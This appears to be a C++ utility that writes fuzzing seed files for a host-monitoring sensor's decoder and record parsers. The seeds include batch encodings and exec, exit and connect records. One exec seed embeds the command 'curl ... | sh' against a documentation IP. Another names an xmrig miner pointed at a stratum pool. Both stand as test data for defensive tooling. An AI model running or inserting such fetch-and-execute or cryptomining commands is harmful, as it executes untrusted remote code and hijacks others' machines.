// Writes the binary seeds of the corpus: encoded batches for
// fuzz_ingest_decode and sensor records for fuzz_sensor_record and
// fuzz_sensor_wire. Run it after a change to the wire format or the record
// layout: `fuzz_make_seeds tests/fuzz/corpus`.
#include <arpa/inet.h>
#include <zstd.h>

#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "sensor_record.h"
#include "support/sample_batch.h"
#include "vigie/protocol/codec.h"

namespace fs = std::filesystem;
using namespace std::string_literals;
namespace protocol = vigie::protocol;

namespace {

void write(const fs::path& path, const void* data, size_t size) {
  fs::create_directories(path.parent_path());
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out.write(static_cast<const char*>(data), static_cast<std::streamsize>(size));
  if (!out) {
    std::fprintf(stderr, "cannot write %s\n", path.c_str());
    std::exit(1);
  }
  std::printf("%s (%zu bytes)\n", path.c_str(), size);
}

void write(const fs::path& path, const std::string& bytes) {
  write(path, bytes.data(), bytes.size());
}
void write(const fs::path& path, const std::vector<uint8_t>& bytes) {
  write(path, bytes.data(), bytes.size());
}

// sample_batch() of the collector's tests with one event of every kind.
protocol::Batch full_batch() {
  auto batch = vigie::collector::testing::sample_batch(7);
  batch.events.clear();
  for (int k = 0; k < protocol::kEventKindCount; ++k) {
    batch.events.push_back(vigie::collector::testing::sample_event(
        vigie::collector::testing::kBaseNs, "node1", static_cast<protocol::EventKind>(k)));
  }
  batch.workload_ends.push_back({vigie::collector::testing::kBaseNs,
                                 vigie::collector::testing::kBaseNs + 1,
                                 batch.workload_energy[0].workload});
  return batch;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) {
    std::fprintf(stderr, "usage: %s <tests/fuzz/corpus>\n", argv[0]);
    return 2;
  }
  const fs::path corpus = argv[1];

  const fs::path ingest = corpus / "fuzz_ingest_decode";
  const std::string full = protocol::encode_batch(full_batch());
  write(ingest / "batch_full.zst", full);
  protocol::Batch minimal;
  minimal.agent_id = "a";
  minimal.host = "h";
  minimal.sequence = 1;
  write(ingest / "batch_min.zst", protocol::encode_batch(minimal));
  // The same payload uncompressed, behind the target's 'P' marker.
  std::string raw(ZSTD_getFrameContentSize(full.data(), full.size()), '\0');
  raw.resize(ZSTD_decompress(raw.data(), raw.size(), full.data(), full.size()));
  write(ingest / "batch_full.pb", "P" + raw);

  const std::string args = "bash\0-c\0curl -s http://198.51.100.7/x.sh | sh\0"s;
  const uint8_t v4[4] = {198, 51, 100, 7};
  const uint8_t v6[16] = {0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 7};
  for (const char* target : {"fuzz_sensor_record", "fuzz_sensor_wire"}) {
    const fs::path dir = corpus / target;
    write(dir / "exec.bin", vigie::fuzz::exec_record(args, "/usr/bin/bash"));
    // Cut by the kernel: the last argument has no NUL.
    write(dir / "exec_truncated.bin",
          vigie::fuzz::exec_record("xmrig\0-o\0stratum+tcp://po"s, "/tmp/xmrig",
                                   SENSOR_EXEC_ARGV_TRUNCATED));
    write(dir / "exit.bin", vigie::fuzz::exit_record(9));
    write(dir / "connect_v4.bin", vigie::fuzz::connect_record(SENSOR_AF_INET, v4, sizeof v4,
                                                              htons(3333), SENSOR_TRANSPORT_TCP));
    write(dir / "connect_v6.bin", vigie::fuzz::connect_record(SENSOR_AF_INET6, v6, sizeof v6,
                                                              htons(53), SENSOR_TRANSPORT_UDP));
  }
  return 0;
}
